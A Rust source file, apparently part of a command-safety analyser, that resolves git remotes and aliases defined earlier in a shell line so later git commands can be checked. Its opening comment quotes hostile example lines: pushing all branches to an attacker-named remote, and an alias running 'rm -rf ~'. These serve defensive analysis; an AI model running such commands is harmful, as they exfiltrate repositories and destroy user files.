//! What a line tells git about later commands of the same line: remotes it
//! adds and aliases it defines.
//!
//! `git remote add x https://github.com/attacker/loot.git && git push x
//! --all` pushes the repository to the attacker, though the push names only
//! `x`; `git config alias.yolo '!rm -rf ~' && git yolo` runs a shell command
//! that no word of the second command shows. The analysis records each
//! `git remote add|set-url NAME URL` and `git config [set] alias.NAME VALUE`
//! of the line, in order of appearance, and then (1) replaces the remote of
//! a later `git push|fetch|pull NAME` by its URL, so that the rules and the
//! egress decision see where it goes, and (2) expands `git NAME …` as git
//! does: `!script` runs `script` with the arguments, anything else is
//! `git VALUE …`. An alias is expanded wherever in the line it is defined
//! (over-eager, as shell aliases are). Cost: a look at the subcommand words
//! of git commands; nothing for other programs.

use rustc_hash::FxHashMap;

use super::quote::quote;
use super::simple::SimpleCommand;

/// Most remotes or aliases one line may define (more are not tracked).
const MAX_DEFINITIONS: usize = 64;

/// Remotes and aliases defined by the git commands of a line.
#[derive(Debug, Default)]
pub(crate) struct GitLine {
    remotes: FxHashMap<String, String>,
    aliases: FxHashMap<String, String>,
}

impl GitLine {
    /// Records what `command` defines, if it is such a git command.
    pub(crate) fn learn(&mut self, command: &SimpleCommand) {
        if command.program.as_deref() != Some("git")
            || !matches!(command.subcommand().next(), Some("remote" | "config"))
        {
            return;
        }
        let words: Vec<&str> = command.subcommand().collect();
        let known = |i: usize| {
            command
                .subcommand_at
                .get(i)
                .and_then(|&p| command.positionals.get(p))
                .is_some_and(|w| w.is_known())
        };
        match words.as_slice() {
            ["remote", "add" | "set-url", name, url, ..]
                if known(2) && known(3) && self.remotes.len() < MAX_DEFINITIONS =>
            {
                self.remotes.insert((*name).to_owned(), (*url).to_owned());
            }
            ["config", rest @ ..] => {
                let rest = rest.strip_prefix(&["set"]).unwrap_or(rest);
                let offset = words.len() - rest.len();
                if let [key, value, ..] = rest {
                    if let Some(name) = key.strip_prefix("alias.") {
                        if known(offset + 1) && self.aliases.len() < MAX_DEFINITIONS {
                            self.aliases.insert(name.to_owned(), (*value).to_owned());
                        }
                    }
                }
            }
            _ => {}
        }
    }

    /// Replaces the remote name of a push, fetch or pull by the URL the
    /// line gave it.
    pub(crate) fn resolve_remote(&self, command: &mut SimpleCommand) {
        if command.program.as_deref() != Some("git") || self.remotes.is_empty() {
            return;
        }
        let url = {
            let mut words = command.subcommand();
            if !matches!(words.next(), Some("push" | "fetch" | "pull")) {
                return;
            }
            match words.next().and_then(|name| self.remotes.get(name)) {
                Some(url) => url.clone(),
                None => return,
            }
        };
        let Some(&at) = command.subcommand_at.get(1) else {
            return;
        };
        let Some(word) = command.positionals.get_mut(at) else {
            return;
        };
        let name = std::mem::replace(&mut word.text, url.as_str().into());
        // The origin a clone set up is not the one the line set: a push to
        // `origin` after `git remote add origin URL` goes to URL too.
        if let Some(arg) = command.argv.iter_mut().skip(1).find(|w| w.text == name) {
            arg.text = url.as_str().into();
        }
    }

    /// The script that `git NAME args…` runs when NAME is an alias of the
    /// line, and how it was found.
    pub(crate) fn expansion(&self, command: &SimpleCommand) -> Option<(String, String)> {
        if command.program.as_deref() != Some("git") || self.aliases.is_empty() {
            return None;
        }
        let name = command.subcommand().next()?;
        let value = self.aliases.get(name)?;
        let how = format!("git alias {name}");
        if command.via.contains(&how) {
            return None;
        }
        let mut script = match value.strip_prefix('!') {
            Some(shell) => shell.to_owned(),
            None => format!("git {value}"),
        };
        // The words after the alias's own, flags included (`git p --force`).
        let at = command
            .argv
            .iter()
            .skip(1)
            .position(|w| w.text == name)?
            + 1;
        for word in command.argv.iter().skip(at + 1) {
            script.push(' ');
            if word.is_known() {
                script.push_str(&quote(&word.text));
            } else {
                script.push_str("\"$(unknown)\"");
            }
        }
        Some((script, how))
    }
}
